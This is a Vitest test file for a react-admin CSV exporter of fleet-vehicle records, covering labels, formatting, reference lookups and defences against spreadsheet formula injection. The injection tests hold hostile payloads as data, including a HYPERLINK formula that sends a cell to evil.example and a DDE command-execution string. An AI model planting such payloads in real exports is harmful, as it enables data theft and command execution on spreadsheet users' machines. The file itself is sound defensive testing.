// @vitest-environment node
import { describe, expect, it, vi } from 'vitest';
import type { FetchRelatedRecords } from 'react-admin';
import { buildExporter } from '../../../src/engine/react/exporter';
import type { ResourceDeclaration } from '../../../core/engine/types';
import type { CustomFieldDefinition } from '../../../core/engine/validate';

// A declaration of its own, so the test does not move when the product's entities do.
const vehicles: ResourceDeclaration = {
  name: 'vehicles',
  table: 'vehicles',
  label: { one: 'Vehicle', many: 'Pool vehicles' },
  recordRepresentation: '%{registration}',
  defaultSort: { field: 'registration', order: 'ASC' },
  delete: 'hard',
  access: { admin: ['list', 'export'] },
  fields: [
    { source: 'registration', type: 'text', label: 'Registration' },
    {
      source: 'kind',
      type: 'choice',
      label: 'Kind',
      choices: [
        { id: 'van', name: 'Van' },
        { id: 'car', name: 'Car' },
      ],
    },
    { source: 'seats', type: 'number', label: 'Seats' },
    { source: 'mot_due', type: 'date', label: 'MOT due' },
    { source: 'hire_rate', type: 'money', label: 'Hire rate (per day)' },
    { source: 'electric', type: 'boolean', label: 'Electric' },
    { source: 'site_id', type: 'reference', reference: 'sites', label: 'Based at' },
    { source: 'return_site_id', type: 'reference', reference: 'sites', label: 'Returned to' },
    { source: 'driver_ids', type: 'references', reference: 'candidates', label: 'Drivers' },
    { source: 'address', type: 'address', label: 'Garage address' },
    { source: 'photo', type: 'image', label: 'Photo' },
    { source: 'secret', type: 'text', label: 'Internal', views: [] },
  ],
};
const declarations = [
  { ...vehicles, name: 'sites', recordRepresentation: '%{name}' },
  { ...vehicles, name: 'candidates', recordRepresentation: '%{first_name} %{last_name}' },
];
const custom: CustomFieldDefinition[] = [
  { key: 'fleet_no', label: 'Fleet number', field_type: 'text', required: false },
];

const store: Record<string, Record<string, any>> = {
  sites: Object.fromEntries(Array.from({ length: 250 }, (_, i) => [i + 1, { id: i + 1, name: `Site ${i + 1}` }])),
  candidates: {
    7: { id: 7, first_name: 'Ada', last_name: 'Lovelace' },
    8: { id: 8, first_name: 'Alan', last_name: 'Turing' },
  },
};

/** react-admin's fetchRelatedRecords over the store, recording each call. */
function fakeFetch() {
  const calls: { resource: string; ids: unknown[] }[] = [];
  const fetch = vi.fn(async (data: any[], field: string, resource: string) => {
    const ids = [...new Set(data.map((d) => d[field]))];
    calls.push({ resource, ids });
    if (ids.length > 100) throw new Error('The API answers at most 100 records at once');
    return Object.fromEntries(
      ids.filter((id) => store[resource][String(id)]).map((id) => [id, store[resource][String(id)]]),
    );
  }) as unknown as FetchRelatedRecords;
  return { fetch, calls };
}

/**
 * The file read the way a spreadsheet reads it (Excel, LibreOffice, Google Sheets): outside quotes a CR, an LF
 * or CRLF each end a row; inside quotes they stay in the cell. Each cell keeps whether it was quoted.
 */
function readAsSpreadsheet(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [[]];
  let field = '';
  let quoted = false;
  let inQuotes = false;
  const end = () => {
    rows.at(-1)!.push({ value: field, quoted });
    field = '';
    quoted = false;
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') inQuotes = false;
      else field += ch;
    } else if (ch === '"' && field === '') {
      inQuotes = true;
      quoted = true;
    } else if (ch === ',') end();
    else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      end();
      rows.push([]);
    } else field += ch;
  }
  if (rows.at(-1)!.length === 0 && field === '') rows.pop();
  else if (field !== '' || quoted) end();
  return rows;
}

const parseCsv = (text: string): string[][] => readAsSpreadsheet(text).map((r) => r.map((c) => c.value));

async function exportRecords(records: any[]) {
  const files: { csv: string; name: string }[] = [];
  const { fetch, calls } = fakeFetch();
  const exporter = buildExporter(vehicles, {
    declarations,
    customFields: custom,
    now: () => new Date(2026, 2, 15, 23, 59),
    download: (csv, name) => files.push({ csv, name }),
  });
  await exporter(records, fetch, {} as any, 'vehicles');
  expect(files).toHaveLength(1);
  return { ...files[0], rows: parseCsv(files[0].csv.replace(/^\uFEFF/, '')), calls };
}

const van = {
  id: 1,
  registration: 'AB12 CDE',
  kind: 'van',
  seats: 3,
  mot_due: '2026-03-09',
  hire_rate: 1250,
  electric: false,
  site_id: 2,
  return_site_id: 3,
  driver_ids: [7, 8],
  address: { line1: '1 High St', city: 'Leeds', postcode: 'LS1 1AA' },
  photo: 'data:image/png;base64,iVBORw0KGgo=',
  secret: 'hidden',
  custom_fields: { fleet_no: 'F-9' },
};

describe('buildExporter', () => {
  it('names the file <entity plural>-<yyyy-MM-dd> and marks it UTF-8 for spreadsheets', async () => {
    const { name, csv } = await exportRecords([van]);
    expect(name).toBe('pool-vehicles-2026-03-15');
    expect(csv.startsWith('\uFEFF')).toBe(true);
  });

  it("heads the columns with the declaration's labels, leaving out uploads and fields no view shows", async () => {
    const { rows } = await exportRecords([van]);
    expect(rows[0]).toEqual([
      'ID',
      'Registration',
      'Kind',
      'Seats',
      'MOT due',
      'Hire rate (per day)',
      'Electric',
      'Based at',
      'Returned to',
      'Drivers',
      'Garage address',
      'Fleet number',
    ]);
    expect(rows[1].join('|')).not.toMatch(/hidden|base64/);
  });

  it('writes values a spreadsheet reads: choices, yyyy-MM-dd dates, yes/no, one-line addresses, references by name', async () => {
    const { rows } = await exportRecords([
      van,
      { id: 2, registration: 'XY99 ZZZ', electric: true, hire_rate: 100000, driver_ids: [], site_id: null },
    ]);
    expect(rows[1]).toEqual([
      '1',
      'AB12 CDE',
      'Van',
      '3',
      '2026-03-09',
      '12.5',
      'No',
      'Site 2',
      'Site 3',
      'Ada Lovelace, Alan Turing',
      '1 High St, Leeds, LS1 1AA',
      'F-9',
    ]);
    expect(rows[2]).toEqual(['2', 'XY99 ZZZ', '', '', '', '1000', 'Yes', '', '', '', '', '']);
  });

  it('fetches the names of each referenced resource once (by pages of 100), whatever the number of fields pointing at it', async () => {
    const records = Array.from({ length: 240 }, (_, i) => ({
      id: i + 1,
      registration: `R${i}`,
      site_id: i + 1,
      return_site_id: 250 - (i % 5),
      driver_ids: [7],
    }));
    const { rows, calls } = await exportRecords(records);
    expect(calls.map((c) => c.resource)).toEqual(['sites', 'sites', 'sites', 'candidates']);
    expect(calls.map((c) => c.ids.length)).toEqual([100, 100, 45, 1]);
    expect(rows[240].slice(7, 10)).toEqual(['Site 240', 'Site 246', 'Ada Lovelace']);
  });

  it('keeps the id of a referenced record that no longer answers', async () => {
    const { rows } = await exportRecords([{ ...van, site_id: 999, driver_ids: [7, 404] }]);
    expect(rows[1][7]).toBe('999');
    expect(rows[1][9]).toBe('Ada Lovelace, 404');
  });

  it('neutralises spreadsheet formulas: = + - @ tab and carriage return lead with a quote, in values and labels', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      "=cmd|' /C calc'!A0",
      '＝1+1',
    ];
    const { rows } = await exportRecords(
      hostile.map((registration, i) => ({ id: i + 1, registration, custom_fields: { fleet_no: registration } })),
    );
    hostile.forEach((h, i) => {
      expect(rows[i + 1][1]).toBe(`'${h}`);
      expect(rows[i + 1][11]).toBe(`'${h}`);
    });
    // Plain negative numbers stay numbers; ordinary text is untouched.
    const plain = await exportRecords([{ id: 1, registration: 'Mary-Jane O’Neil', seats: -1 }]);
    expect(plain.rows[1].slice(1, 4)).toEqual(['Mary-Jane O’Neil', '', '-1']);
    // A label an agency typed for its own field is text too.
    const files: string[] = [];
    const exporter = buildExporter(vehicles, {
      customFields: [{ key: 'x', label: '=1+2', field_type: 'text', required: false }],
      download: (csv) => files.push(csv),
    });
    await exporter([], fakeFetch().fetch, {} as any);
    expect(parseCsv(files[0].replace(/^\uFEFF/, ''))[0].at(-1)).toBe("'=1+2");
  });

  it('writes money as numbers and dates as yyyy-MM-dd (times yyyy-MM-dd HH:mm), unquoted numbers a spreadsheet sums', async () => {
    const withTime: ResourceDeclaration = {
      ...vehicles,
      fields: [...vehicles.fields, { source: 'booked_at', type: 'datetime', label: 'Booked at' }],
    };
    const files: string[] = [];
    const exporter = buildExporter(withTime, { declarations, download: (csv) => files.push(csv) });
    // 27640 pence is £276.40; a local time, so that the test reads the same in any time zone.
    await exporter(
      [{ ...van, hire_rate: 27640, booked_at: new Date(2026, 2, 9, 7, 5).toISOString() }],
      fakeFetch().fetch,
      {} as any,
    );
    const [header, row] = readAsSpreadsheet(files[0].replace(/^\uFEFF/, ''));
    const at = (label: string) => row[header.findIndex((h) => h.value === label)];
    expect(at('Hire rate (per day)')).toEqual({ value: '276.4', quoted: false });
    expect(Number(at('Hire rate (per day)').value)).toBe(276.4);
    expect(at('Seats')).toEqual({ value: '3', quoted: false });
    expect(at('MOT due').value).toBe('2026-03-09');
    expect(at('Booked at').value).toBe('2026-03-09 07:05');
  });

  it('heads every column uniquely: a field labelled like an earlier one (a reference and its computed name) is left out', async () => {
    const staffed: ResourceDeclaration = {
      ...vehicles,
      fields: [
        { source: 'driver_id', type: 'reference', reference: 'candidates', label: 'Staff member' },
        { source: 'driver_name', type: 'text', label: 'Staff member', computed: true, readOnly: true },
        { source: 'registration', type: 'text', label: 'Registration' },
      ],
    };
    const files: string[] = [];
    const exporter = buildExporter(staffed, {
      declarations,
      customFields: [{ key: 'reg', label: 'registration', field_type: 'text', required: false }],
      download: (csv) => files.push(csv),
    });
    await exporter(
      [{ id: 1, driver_id: 7, driver_name: 'Ada Lovelace', registration: 'AB12' }],
      fakeFetch().fetch,
      {} as any,
    );
    const rows = parseCsv(files[0].replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(['ID', 'Staff member', 'Registration']);
    expect(new Set(rows[0]).size).toBe(rows[0].length);
    expect(rows[1]).toEqual(['1', 'Ada Lovelace', 'AB12']);
  });

  it('keeps a line break inside its cell, so no formula starts a row of its own (a bare CR or LF, then =…)', async () => {
    const hostile = [
      'Van\n=HYPERLINK("http://evil.example/","Click")',
      'Van\r=1+1',
      'Van\r\n@SUM(A1:A9)',
      'Van\n\n+2+3',
      '\n=1+1',
      'a\n-2+3\rb',
    ];
    const { csv } = await exportRecords(
      hostile.map((registration, i) => ({ id: i + 1, registration, custom_fields: { fleet_no: registration } })),
    );
    const rows = readAsSpreadsheet(csv.replace(/^\uFEFF/, ''));
    // One header and one row a record, each as wide as the header: no line break started a row.
    expect(rows).toHaveLength(hostile.length + 1);
    for (const row of rows) expect(row).toHaveLength(rows[0].length);
    hostile.forEach((h, i) => {
      expect(rows[i + 1][1].value).toBe(h);
      expect(rows[i + 1][11].value).toBe(rows[i + 1][1].value);
    });
    // No cell a spreadsheet would evaluate: every cell that starts with a formula character is quoted text.
    for (const cell of rows.flat()) if (/^[=+\-@\t\r]/.test(cell.value)) expect(cell.value).toMatch(/^'/);
  });
});
